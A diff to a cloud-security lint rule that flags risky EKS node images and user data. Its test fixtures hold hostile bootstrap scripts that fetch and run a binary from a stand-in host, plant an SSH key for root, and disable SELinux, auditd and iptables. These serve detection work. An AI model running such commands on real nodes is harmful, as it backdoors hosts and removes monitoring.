@@ -33,7 +33,7 @@ export default defineRule({
   remediation:
     "Upgrade the cluster to a version in standard support, use Bottlerocket or AL2023 node images, pin addonVersion, bake what nodes need (gtp5g, DPDK) into a golden AMI that rules.WH-11.images lists, and keep downloads, SSH keys, setenforce, auditd and iptables out of the user data.",
   options: {
-    images: { type: "strings", description: "Ids of the golden AMIs that nodes may run (UPF nodes with gtp5g or DPDK).", default: [] },
+    images: { type: "strings", description: "Ids of the golden AMIs that nodes may run (UPF nodes with gtp5g or DPDK); once it names any, others are refused.", default: [] },
   },
   standards: [
     { framework: "NSA/CISA ESF 5G Cloud", ref: "I-2", title: "Part I: keep 5G cloud software up to date" },
@@ -86,11 +86,12 @@ export default defineRule({
       { name: "fetch to a file, then execute it", resources: [template({ userData: encoded("#!/bin/bash\n/etc/eks/bootstrap.sh core\nwget -O /tmp/agent https://x.example/agent && chmod +x /tmp/agent && /tmp/agent") })] },
       { name: "an SSH key on every node", resources: [template({ userData: encoded("#!/bin/bash\necho ssh-ed25519 AAAAC3Nz >> /root/.ssh/authorized_keys\n/etc/eks/bootstrap.sh core") })] },
       { name: "SELinux, auditd and iptables", resources: [template({ userData: encoded("#!/bin/bash\nsetenforce 0\nsystemctl disable --now auditd\niptables -F\n/etc/eks/bootstrap.sh core") })] },
+      { name: "an image that the list of approved ones does not name", resources: [template({ imageId: "ami-0other", userData: encoded("#!/bin/bash\n/etc/eks/bootstrap.sh core") })], settings: { rules: { "WH-11": { options: { images: ["ami-0upf"] } } } } },
       { name: "an add-on of any version is advice", resources: [resource(EKS_ADDON, "cni", { addonName: "vpc-cni" })] },
     ],
     undetermined: [
       { name: "a version that the configuration brings", resources: [cluster({ version: unknownValue() })], knowledge: AT },
-      { name: "an own image that no list names", resources: [nodes({ amiType: "CUSTOM" })] },
+      { name: "an own image, of which nothing is said", resources: [nodes({ amiType: "CUSTOM" })] },
       { name: "user data of a node that the configuration brings", resources: [template({ userData: unknownValue() }), nodes({ amiType: "AL2023_x86_64_STANDARD", launchTemplate: { id: "lt-1" } })] },
     ],
   }),
@@ -200,19 +201,22 @@ function* startOf(template: Resource, context: RuleContext): Iterable<Verdict> {
   });
 }
 
+/** An Amazon image by its parameter's name, and with a list of approved images every other one. */
 function* ownImage(template: Resource, wrong: typeof fail, context: RuleContext): Iterable<Verdict> {
   const node = template.props.get("imageId");
   const image = node.string();
-  if (image.state === "absent" || (image.state === "known" && (context.options["images"] as readonly string[]).includes(image.value)))
-    return;
+  const approved = context.options["images"] as readonly string[];
+  if (image.state === "absent" || (image.state === "known" && approved.includes(image.value))) return;
   const text = image.state === "known" ? image.value : "";
   if (/bottlerocket|amazon-linux-2023|al2023/i.test(text)) return;
   const al2 = /amazon-linux-2(-gpu|-arm64)?(\/|$)/.test(text);
-  yield (al2 ? wrong : undetermined)({
+  if (!al2 && approved.length === 0) return;
+  const verdict = image.state === "known" ? wrong : undetermined;
+  yield verdict({
     message: al2
       ? `The nodes of ${template.name} run Amazon Linux 2, for which EKS publishes no more images: kernel faults stay open under every function (Escape to Host).`
-      : `What is inside the image of the nodes of ${template.name} cannot be seen; list it under rules.WH-11.images once it is approved.`,
-    evidence: [seen(node, "Bottlerocket, AL2023 or an approved image")],
+      : `The nodes of ${template.name} ${image.state === "known" ? "run" : "may run"} an image that is not among the approved ones: anything can be inside (Unauthorized Software In NFVI).`,
+    evidence: [seen(node, al2 ? "Bottlerocket or AL2023" : approved)],
     cause: "image",
   });
 }
